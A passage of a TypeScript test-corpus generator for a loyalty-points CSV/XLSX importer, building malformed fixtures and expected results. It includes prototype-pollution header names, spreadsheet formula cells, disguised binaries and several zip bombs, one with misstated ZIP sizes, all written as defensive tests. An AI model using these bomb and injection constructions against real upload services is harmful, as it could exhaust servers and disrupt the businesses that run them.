      rounding: "round",
      provider: "bonifiq",
      expect: imported(rows),
      content: utf8(csvText(HEADER, rows, { delimiter: ";" })),
    });
  }

  // ------------------------------------------------------------------------------------ dates
  {
    const H = ["email", "points", "date", "reason"];
    const who = email();
    const rows = [
      ok([who, "100", "2026-01-15", "signup"], 100),
      bad([who, "50", "31/02/2026", "order"], 50, "INVALID_DATE"),
      bad([who, "-20", "29/02/2023", "refund"], -20, "INVALID_DATE"),
      ok([who, "30", "29/02/2024", "order"], 30),
      bad([who, "10", "2026-13-01", "x"], 10, "INVALID_DATE"),
      bad([who, "10", "31/12/99", "x"], 10, "INVALID_DATE"),
      bad([who, "10", "00/00/0000", "x"], 10, "INVALID_DATE"),
      bad([who, "10", "2026-02-31T10:00:00Z", "x"], 10, "INVALID_DATE"),
      bad([who, "10", "2026-01-01T25:00:00", "x"], 10, "INVALID_DATE"),
      bad([who, "10", "", "x"], 10, "MISSING_DATE"),
      bad([who, "10", "yesterday", "x"], 10, "INVALID_DATE"),
      bad([who, "0", "2026-01-02", "x"], 0, "ZERO_DELTA"),
      ok([who, "-15", "01/03/2026 14:30", "refund"], -15),
      ok([who, "5", "1004-05-27", "birthday"], 5),
    ];
    add({
      file: "dates-history-impossible.csv",
      kind: "history",
      group: "dates",
      exercises: "a history file with impossible dates (31/02/2026, 29/02/2023, month 13, two-digit year, 25 o'clock), empty and zero changes",
      expect: imported(rows),
      content: utf8(csvText(H, rows)),
    });
    const rows2 = [ok([email(), "10", "13/01/2026", "a"], 10), bad([email(), "10", "01/13/2026", "b"], 10, "INVALID_DATE"), ok([email(), "10", "03/04/2026", "c"], 10)];
    add({
      file: "dates-history-mixed-orders.csv",
      kind: "history",
      group: "dates",
      exercises: "day-first and month-first dates in one history file: detection picks day-first (13/01), the month-first row is refused",
      expect: imported(rows2),
      content: utf8(csvText(H, rows2)),
    });
    const HB = ["email", "points", "birthday", "created_at"];
    const rows3 = [ok([email(), "10", "31/02/2026", "2026-99-99"], 10), ok([email(), "11", "05/27", "not a date"], 11), ok([email(), "12", "1990-05-17", "2020-01-01T00:00:00Z"], 12)];
    add({
      file: "dates-balances-impossible.csv",
      group: "dates",
      exercises: "impossible birthdays and enrolment dates in a balances file: never a reason to reject a balance",
      expect: imported(rows3),
      content: utf8(csvText(HB, rows3)),
    });
    add({
      file: "dates-history-no-date-column.csv",
      kind: "history",
      group: "dates",
      exercises: "a history file without a date column",
      expect: refused("NO_DATE_COLUMN"),
      content: utf8(csvText(["email", "points", "reason"], [ok([email(), "5", "x"], 5)])),
    });
  }

  // --------------------------------------------------------------------------------- headers
  {
    const header = ["__proto__", "constructor", "email", "points", "toString", "hasOwnProperty", "__proto__"];
    const rows = balances(3).map((r) => ({ ...r, cells: ["{}", "x", r.cells[0] ?? "", r.cells[1] ?? "", "y", "z", "w"] }));
    add({
      file: "headers-prototype-names.csv",
      group: "headers",
      exercises: "columns named __proto__ (twice), constructor, toString, hasOwnProperty",
      expect: imported(rows),
      content: utf8(csvText(header, rows)),
    });
    const rows2 = balances(3).map((r) => ({ ...r, cells: ["", r.cells[0] ?? "", "", r.cells[1] ?? ""] }));
    add({
      file: "headers-empty-names.csv",
      group: "headers",
      exercises: "empty column names between the recognised ones",
      expect: imported(rows2),
      content: utf8(csvText(["", "E-MAIL ", "", " Pontos"], rows2)),
    });
    const rows3 = balances(3);
    add({
      file: "headers-title-line-first.csv",
      group: "headers",
      exercises: "a title line and a comment before the header",
      expect: refused("NO_IDENTITY_COLUMN"),
      content: utf8(`Loyalty export — January\n${csvText(HEADER, rows3)}`),
    });
    add({
      file: "headers-no-points.csv",
      group: "headers",
      exercises: "no points column",
      expect: refused("NO_POINTS_COLUMN"),
      content: utf8(csvText(["email", "first_name"], [ok([email(), "Ana"], 0)])),
    });
    add({
      file: "headers-duplicate-only.csv",
      group: "headers",
      exercises: "every header twice with different spellings (Email, E-mail, points, Points)",
      expect: imported([ok([email(), "5", "x@example.com", "6"], 5)]),
      content: utf8(csvText(["Email", "Points", "e mail", "points "], [ok([email(), "5", "x@example.com", "6"], 5)])),
    });
    const rows4 = [ok([email(), "5", "Ana", "extra"], 5)].map((r) => ({ ...r, line: `${r.cells.join(",")},,` }));
    const wideRow = rawLine(`${email()},6,Bia,x,y,z`, "rejected", 0, "MALFORMED_ROW");
    const shortRow = bad([email()], 0, "MISSING_POINTS");
    add({
      file: "headers-ragged-rows.csv",
      group: "headers",
      exercises: "rows with trailing delimiters, rows wider than the header and rows shorter than it",
      expect: imported([...rows4, wideRow, shortRow]),
      content: utf8(`email,points,first_name,note\n${rows4[0]!.line}\n${wideRow.line}\n${shortRow.cells[0]}\n`),
    });
  }

  // ------------------------------------------------------------------------- identity fields
  {
    const H = ["cpf", "telefone", "pontos"];
    const rows = [
      ok(["529.982.247-25", "", "10"], 10),
      ok(["12345678909", "", "11"], 11),
      ok(["", "(11) 98765-4321", "12"], 12),
      bad(["529.982.247-26", "", "13"], 13, "INVALID_CPF"),
      bad(["111.111.111-11", "", "14"], 14, "INVALID_CPF"),
      bad(["11.222.333/0001-81", "", "15"], 15, "INVALID_CPF"),
      bad(["", "123", "16"], 16, "INVALID_PHONE"),
      ok(["", "+55 21 99876-5432", "17"], 17),
      bad(["", "", "18"], 18, "NO_IDENTITY"),
      bad(["٥٢٩٩٨٢٢٤٧٢٥", "", "19"], 19, "INVALID_CPF"),
    ];
    add({
      file: "identity-cpf-and-phones.csv",
      group: "identity fields",
      provider: "bonifiq",
      exercises: "CPFs formatted and not, with wrong check digits, repeated digits, a CNPJ, Arabic-Indic digits; phones local and international",
      expect: imported(rows),
      content: utf8(csvText(H, rows, { delimiter: ";" })),
    });
    const rows2 = [
      ok(["207119551", "", "10"], 10),
      bad(["7.06405E+17", "", "11"], 11, "NO_IDENTITY"),
      ok(["9007199254740993", "", "12"], 12),
      bad(["", "", "13"], 13, "NO_IDENTITY"),
    ];
    add({
      file: "identity-customer-ids.csv",
      group: "identity fields",
      provider: "loyaltylion",
      exercises: "customer ids past 2^53 (kept exactly) and one a spreadsheet turned into 7.06405E+17",
      expect: imported(rows2),
      content: utf8(csvText(["customer_id", "email", "points_approved"], rows2)),
    });
  }

  // ---------------------------------------------------------------------- duplicates, policies
  {
    const who = email();
    const rows = [ok([who, "100", "Ana"], 100), merged([who.toUpperCase(), "50", "Ana"], 50), merged([`  ${who}  `, "25", "Ana"], 25), ...balances(3)];
    for (const policy of ["sum", "max", "latest"] as const) {
      add({
        file: `duplicates-${policy}.csv`,
        group: "duplicates",
        duplicatePolicy: policy,
        exercises: `one customer three times (case and spaces differ), policy ${policy}: one row survives, the points not carried are counted as merged away`,
        expect: imported(rows),
        content: utf8(csvText(HEADER, rows)),
      });
    }
    const rows2 = rows.map((r) => (r.fate === "merged" || r === rows[0] ? { ...r, fate: "rejected" as const, codes: ["DUPLICATE_FOR_REVIEW" as const] } : r));
    add({
      file: "duplicates-review.csv",
      group: "duplicates",
      duplicatePolicy: "review",
      exercises: "one customer three times, policy review: all three rows go to review",
      expect: imported(rows2),
      content: utf8(csvText(HEADER, rows)),
    });
  }

  // -------------------------------------------------------------------------- other kinds
  {
    const rows = [ok([email(), "Gold"], 0), bad([email(), ""], 0, "MISSING_TIER"), bad([email(), "G".repeat(300)], 0, "MISSING_TIER"), ok([email(), "=HYPERLINK(\"x\")"], 0), ok([email(), "Ouro 🥇"], 0)];
    add({
      file: "kind-tiers-hostile.csv",
      kind: "tiers",
      group: "other kinds",
      exercises: "a tiers file with an empty tier, a 300-character tier, a formula and an emoji tier",
      expect: imported(rows),
      content: utf8(csvText(["email", "vip_tier"], rows)),
    });
    const shared = "WELCOME10";
    const a = email();
    const rows2 = [
      ok([a, shared], 0),
      bad([email(), shared.toLowerCase()], 0, "DUPLICATE_REFERRAL_CODE"),
      merged([a, shared], 0),
      bad([email(), "https://rwrd.io/abc"], 0, "INVALID_REFERRAL_CODE"),
      bad([email(), "C".repeat(300)], 0, "INVALID_REFERRAL_CODE"),
      bad([email(), ""], 0, "MISSING_REFERRAL_CODE"),
    ];
    add({
      file: "kind-referrals-hostile.csv",
      kind: "referrals",
      group: "other kinds",
      exercises: "a referral file with a code reused by another customer, repeated by its owner, links, an over-long code",
      expect: imported(rows2),
      content: utf8(csvText(["email", "referral code"], rows2)),
    });
    const rows3 = [
      ok([email(), "C1", "15,00", "31/12/2099"], 0),
      ok([email(), "C2", "10%", ""], 0),
      bad([email(), "C3", "150%", ""], 0, "INVALID_COUPON_VALUE"),
      bad([email(), "C4", "-5", ""], 0, "INVALID_COUPON_VALUE"),
      bad([email(), "C5", "1e3", ""], 0, "INVALID_COUPON_VALUE"),
      bad([email(), "c1", "5,00", ""], 0, "DUPLICATE_COUPON_CODE"),
      bad([email(), "", "5,00", ""], 0, "MISSING_COUPON_CODE"),
      bad([email(), "C6", "", ""], 0, "MISSING_COUPON_VALUE"),
      ok([email(), "C7", "R$ 7,50", "2099-12-31"], 0),
      bad([email(), "C8", "7,50", "31/02/2026"], 0, "INVALID_DATE"),
    ];
    add({
      file: "kind-coupons-hostile.csv",
      kind: "coupons",
      provider: "bonifiq",
      group: "other kinds",
      exercises: "a coupon file with values over 100%, negative, scientific, a code reused in another case, missing cells, an impossible expiry",
      expect: imported(rows3),
      content: utf8(csvText(["email", "coupon code", "coupon value", "expires_at"], rows3, { delimiter: ";" })),
    });
  }

  // ------------------------------------------------------------------------------- providers
  {
    const presets: { provider: ProviderId; header: string[]; row: (e: string, p: string) => string[] }[] = [
      { provider: "smile", header: ["first_name", "last_name", "email", "points_balance", "vip_tier", "date_of_birth"], row: (e, p) => ["Ana", "Souza", e, p, "Gold", "1004-05-27"] },
      { provider: "loyaltylion", header: ["merchant_id", "email", "points_approved", "points_pending", "points_spent"], row: (e, p) => ["", e, p, "5", "10"] },
      { provider: "yotpo", header: ["Emails", "Points Balance", "VIP Tier"], row: (e, p) => [e, p, "Silver"] },
      { provider: "rivo", header: ["Shopify Customer ID", "Email", "Points Balance"], row: (e, p) => ["", e, p] },
      { provider: "bon", header: ["Customer Email", "Points", "Tier"], row: (e, p) => [e, p, "VIP"] },
      { provider: "joy", header: ["Email", "Points", "Tier"], row: (e, p) => [e, p, ""] },
      { provider: "bonifiq", header: ["Nome", "E-mail", "CPF", "Saldo de Pontos"], row: (e, p) => ["Ana Souza", e, "", p] },
      { provider: "generic", header: ["Correo electrónico", "Puntos", "Nombre"], row: (e, p) => [e, p, "Ana"] },
    ];
    for (const preset of presets) {
      const pointsAt = preset.header.findIndex((h) => /point|pontos|puntos/i.test(h));
      const emailAt = preset.header.findIndex((h) => /mail|correo/i.test(h));
      const make = (p: string, e = email()) => preset.row(e, p);
      const rows: RowSpec[] = [
        ok(make("100"), 100),
        ok(make("250"), 250),
        bad(make("=1+1"), 0, "INVALID_POINTS"),
        bad(make("1e9"), 0, "INVALID_POINTS"),
        bad(make("7", "ana@"), 7, "INVALID_EMAIL"),
        bad(make("-3"), -3, "NEGATIVE_POINTS"),
        rawLine(`${[...preset.header.map((_, i) => (i === emailAt ? email() : i === pointsAt ? "9" : "")), '"open'].join(preset.provider === "bonifiq" ? ";" : ",")}`, "rejected", 0, "MALFORMED_ROW"),
        blankRow(),
      ];
      add({
        file: `provider-${preset.provider}-hostile.csv`,
        provider: preset.provider,
        group: "providers",
        exercises: `the ${preset.provider} preset's columns with a formula, scientific notation, a broken e-mail, a negative balance, an open quote and a blank line`,
        expect: imported(rows),
        content: utf8(csvText(preset.header, rows, { delimiter: preset.provider === "bonifiq" ? ";" : "," })),
      });
    }
  }

  // -------------------------------------------------------------------- empty and header-only
  {
    const empties: [string, string | Buffer, ImportFileErrorCode, string][] = [
      ["empty-zero-bytes.csv", Buffer.alloc(0), "EMPTY_FILE", "a file of zero bytes"],
      ["empty-whitespace.csv", "   \n\t\n  \r\n", "EMPTY_FILE", "only spaces, tabs and line endings"],
      ["empty-newlines.csv", "\n".repeat(5000), "EMPTY_FILE", "5,000 empty lines"],
      ["header-only.csv", "email,points\n", "HEADER_ONLY", "a header and nothing else"],
      ["header-only-no-newline.csv", "email,points", "HEADER_ONLY", "a header without a line ending"],
      ["header-then-blank-lines.csv", "email,points\n\n\n,\n , \n", "HEADER_ONLY", "a header followed by blank lines and bare delimiters"],
      ["header-then-comments.csv", "email,points\n# nothing yet\n# really\n", "HEADER_ONLY", "a header followed by comments"],
      ["only-comments.csv", "# export\n# empty\n", "NO_HEADER", "only comment lines"],
    ];
    for (const [file, content, code, what] of empties) {
      add({ file, group: "empty files", exercises: what, expect: refused(code), content: typeof content === "string" ? utf8(content) : content });
    }
  }

  // ----------------------------------------------------------------- binary and wrong extensions
  {
    const wrong: [string, Buffer, ImportFileErrorCode, string][] = [
      ["wrong-extension.xls", Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), "UNSUPPORTED_EXTENSION", "an old .xls workbook"],
      ["wrong-extension.pdf", utf8("%PDF-1.4\n%\u00e2\n"), "UNSUPPORTED_EXTENSION", "a PDF"],
      ["no-extension", utf8("email,points\na@b.co,1\n"), "UNSUPPORTED_EXTENSION", "a file name without an extension"],
      ["png-named.csv", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), "BINARY_FILE", "a PNG image named .csv"],
      ["gzip-named.csv", Buffer.from([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3]), "BINARY_FILE", "a gzip archive named .csv"],
      ["control-characters.csv", Buffer.from(Array.from({ length: 400 }, (_, i) => (i % 3 === 0 ? 0x01 : 0x41))), "BINARY_FILE", "text full of control characters"],
      ["xls-renamed.csv", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(512, 0x20)]), "BINARY_FILE", "an .xls renamed .csv"],
    ];
    for (const [file, content, code, what] of wrong) add({ file, group: "binary and wrong files", exercises: what, expect: refused(code), content });
  }

  // ------------------------------------------------------------------------ workbooks and bombs
  {
    const xlsxRows = (n: number) =>
      Array.from({ length: n }, () => {
        const p = int(0, 900);
        return { e: email(), p };
      });
    const plain = xlsxRows(5);
    const sheet = (rows: { e: string; p: number }[], extra = "") =>
      entry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}${rows.map((r, i) => sheetRow(i + 2, [r.e, r.p])).join("")}${extra}${SHEET_TAIL}`);
    const plainRows = plain.map((r) => ok([r.e, String(r.p)], r.p));
    add({
      file: "xlsx-handmade.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a minimal hand-built workbook (inline strings): read like a CSV",
      expect: imported(plainRows),
      content: workbook(sheet(plain)),
    });
    add({
      file: "xlsx-disguised-as.csv",
      group: "workbooks and zip bombs",
      exercises: "a workbook named .csv: read as a workbook by its content",
      expect: imported(plainRows),
      content: workbook(sheet(plain)),
    });
    add({
      file: "zip-not-a-workbook.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a ZIP archive with no workbook inside, named .xlsx",
      expect: refused("BINARY_FILE"),
      content: zip([entry("readme.txt", "hello"), entry("data/export.csv", "email,points\n")]),
    });
    const whole = workbook(sheet(xlsxRows(200)));
    add({
      file: "xlsx-truncated.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a workbook cut in the middle of the upload",
      expect: refused("TRUNCATED_XLSX"),
      content: whole.subarray(0, Math.floor(whole.length * 0.6)),
    });
    add({
      file: "xlsx-garbage-sheet.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a workbook whose sheet is not XML (random bytes)",
      expect: refused("TRUNCATED_XLSX"),
      content: workbook(entry("xl/worksheets/sheet1.xml", Buffer.from(Array.from({ length: 4096 }, () => int(0, 255))))),
    });
    add({
      file: "xlsx-nested-zip.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a workbook whose sheet is itself a ZIP archive (a nested bomb)",
      expect: refused("TRUNCATED_XLSX"),
      content: workbook(entry("xl/worksheets/sheet1.xml", workbook(sheet(plain)), 0)),
    });
    add({
      file: "xlsx-no-rows.xlsx",
      group: "empty files",
      exercises: "a workbook with an empty sheet",
      expect: refused("EMPTY_FILE"),
      content: workbook(entry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${SHEET_TAIL}`)),
    });
    add({
      file: "xlsx-header-only.xlsx",
      group: "empty files",
      exercises: "a workbook with a header row only",
      expect: refused("HEADER_ONLY"),
      content: workbook(sheet([])),
    });
    const far = full ? 1_048_576 : 200_000;
    add({
      file: "xlsx-far-row.xlsx",
      group: "workbooks and zip bombs",
      exercises: `a workbook whose last row is row ${far.toLocaleString("en")} (formatting left far below the data): the rows between are blank`,
      expect: imported([...plainRows, ...Array.from({ length: far - plain.length - 2 }, () => blankRow()), ok(["last@example.com", "3"], 3)]),
      content: workbook(sheet(plain, sheetRow(far, ["last@example.com", 3]))),
    });
    add({
      file: "xlsx-row-past-limit.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a workbook with a row numbered past 5,000,000",
      expect: refused("XLSX_TOO_LARGE"),
      content: workbook(sheet(plain, sheetRow(6_000_000, ["x@example.com", 1]))),
    });
    // The bombs: a few hundred kilobytes that inflate past any export of their size.
    const bombBytes = full ? 2048 * 1024 * 1024 : 256 * 1024 * 1024;
    const MB = 1024 * 1024;
    add({
      file: "bomb-whitespace-sheet.xlsx",
      group: "workbooks and zip bombs",
      exercises: `a workbook whose sheet inflates to ${Math.round(bombBytes / MB)} MiB of whitespace between two rows`,
      expect: refused("XLSX_TOO_LARGE"),
      content: async () =>
        workbook(await repeatedEntry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}`, " ".repeat(1024), bombBytes / 1024, `${sheetRow(2, ["a@example.com", 1])}${SHEET_TAIL}`)),
    });
    add({
      file: "bomb-shared-string.xlsx",
      group: "workbooks and zip bombs",
      exercises: `a workbook whose one shared string inflates to ${Math.round(bombBytes / MB)} MiB`,
      expect: refused("XLSX_TOO_LARGE"),
      content: async () =>
        workbook(
          entry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2"><v>1</v></c></row>${SHEET_TAIL}`),
          await repeatedEntry("xl/sharedStrings.xml", `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>`, "A".repeat(1024), bombBytes / 1024, "</t></si></sst>"),
        ),
    });
    add({
      file: "bomb-inline-cell.xlsx",
      group: "workbooks and zip bombs",
      exercises: `a workbook with one inline-string cell that inflates to ${Math.round(bombBytes / MB)} MiB`,
      expect: refused("XLSX_TOO_LARGE"),
      content: async () =>
        workbook(await repeatedEntry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}<row r="2"><c r="A2" t="inlineStr"><is><t>`, "B".repeat(1024), bombBytes / 1024, `</t></is></c></row>${SHEET_TAIL}`)),
    });
    // Past the row limit in full size; in quick size 300,000 empty rows and no data.
    const rowsBomb = full ? 5_100_000 : 300_000;
    add({
      file: "bomb-empty-rows.xlsx",
      group: "workbooks and zip bombs",
      exercises: `a workbook of ${rowsBomb.toLocaleString("en")} empty <row/> elements${full ? " (past the 5,000,000-row limit)" : " and no data"}`,
      expect: refused(full ? "XLSX_TOO_LARGE" : "HEADER_ONLY"),
      content: async () => workbook(await repeatedEntry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}`, "<row/>", rowsBomb, SHEET_TAIL)),
    });
    // Tags every kilobyte: no long text run, only the inflation ratio gives it away.
    const tagUnit = `<x/>${" ".repeat(1020)}`;
    add({
      file: "bomb-ratio-tags.xlsx",
      group: "workbooks and zip bombs",
      exercises: `a workbook whose sheet inflates to ${Math.round(bombBytes / MB)} MiB of empty tags a kilobyte apart (more than 100 times the file's size)`,
      expect: refused("XLSX_TOO_LARGE"),
      content: async () => workbook(await repeatedEntry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}`, tagUnit, bombBytes / 1024, SHEET_TAIL)),
    });
    add({
      file: "bomb-lying-sizes.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a workbook whose ZIP headers declare a 100-byte sheet that inflates to far more",
      expect: refused("XLSX_TOO_LARGE"),
      content: async () => {
        const e = await repeatedEntry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}`, tagUnit, bombBytes / 1024, SHEET_TAIL);
        return workbook({ ...e, declaredSize: 100 });
      },
    });
    add({
      file: "zip-damaged-local-header.xlsx",
      group: "workbooks and zip bombs",
      exercises: "a workbook whose sheet's local ZIP header gives a wrong compressed size (the ZIP parser fails mid-entry)",
      expect: refused("TRUNCATED_XLSX"),
      content: workbook({ ...sheet(plain), declaredCompressedSize: 10 }),
    });
    add({
      file: "bomb-bomb-disguised-as.csv",
      group: "workbooks and zip bombs",
      exercises: "a zip bomb named .csv",
      expect: refused("XLSX_TOO_LARGE"),
      content: async () =>
        workbook(await repeatedEntry("xl/worksheets/sheet1.xml", `${SHEET_HEAD}${sheetRow(1, ["email", "points"])}`, " ".repeat(1024), bombBytes / 1024, SHEET_TAIL)),
    });
    const entries = full ? 60_000 : 5_000;
    add({
      file: "bomb-many-entries.xlsx",
      group: "workbooks and zip bombs",
      exercises: `a workbook with ${entries.toLocaleString("en")} extra ZIP entries`,
      expect: imported(plainRows),
      content: workbook(sheet(plain), undefined, Array.from({ length: entries }, (_, i) => entry(`xl/media/junk${i}.bin`, "x".repeat(64)))),
    });
  }

  // ------------------------------------------------------------------------------------ size
  {
    const n = full ? 300_000 : 20_000;
    const rows: RowSpec[] = [];
    for (let i = 0; i < n; i++) {
      const u = random();
      if (u < 0.03) rows.push(bad([`broken${i}@`, "5", "X"], 5, "INVALID_EMAIL"));
      else if (u < 0.05) rows.push(bad([email(), "abc", "Y"], 0, "INVALID_POINTS"));
      else if (u < 0.06) rows.push(blankRow());
      else {
        const p = int(0, 10_000);
        rows.push(ok([email(), String(p), "Ana"], p));
      }
    }
    add({
      file: `size-${n}-rows.csv`,
      group: "size",
      exercises: `${n.toLocaleString("en")} rows with 5% broken rows and 1% blank lines: memory stays bounded`,
      expect: imported(rows),
      content: utf8(csvText(HEADER, rows)),
    });
    const blanks = full ? 1_000_000 : 100_000;
    const rows2 = [...balances(2), ...Array.from({ length: blanks }, () => blankRow()), ...balances(2)];
    add({
      file: `size-${blanks}-blank-lines.csv`,
      group: "size",
      exercises: `${blanks.toLocaleString("en")} blank lines between rows`,
      expect: imported(rows2),
      content: utf8(csvText(HEADER, rows2)),
    });
  }

  // ------------------------------------------------------------------------------- write out
  fs.rmSync(options.outDir, { recursive: true, force: true });
  fs.mkdirSync(options.outDir, { recursive: true });
  const manifest: CorpusManifest = { seed, size: options.size, files: [] };
  for (const p of files) {
    const content = typeof p.content === "function" ? await p.content() : p.content;
    fs.writeFileSync(path.join(options.outDir, p.file), content);
    manifest.files.push({
      file: p.file,
      group: p.group,
      exercises: p.exercises,
      kind: p.kind ?? "balances",
      provider: p.provider ?? "generic",
      ...(p.duplicatePolicy && { duplicatePolicy: p.duplicatePolicy }),
      ...(p.rounding && { rounding: p.rounding }),
      expect: p.expect,
      bytes: content.length,
    });
  }
  fs.writeFileSync(path.join(options.outDir, "manifest.json"), `${JSON.stringify(manifest, null, 2)}\n`);
  return manifest;
}

export function corpusDir(size: CorpusSize): string {
  return path.resolve(".carryover/reliability/corpus", size);
}

const isMain = process.argv[1] !== undefined && path.resolve(process.argv[1]) === path.resolve(new URL(import.meta.url).pathname);
if (isMain) {
  const { values } = parseArgs({ options: { size: { type: "string", default: process.env.RELIABILITY_SIZE ?? "quick" }, out: { type: "string" } } });
  const size = values.size === "full" ? "full" : "quick";
  const out = values.out ?? corpusDir(size);
  const started = Date.now();
  const manifest = await generateCorpus({ size, outDir: out });
  const bytes = manifest.files.reduce((s, f) => s + f.bytes, 0);
  console.log(`${manifest.files.length} files, ${(bytes / 1024 / 1024).toFixed(1)} MiB, in ${out} (${((Date.now() - started) / 1000).toFixed(1)} s)`);
}
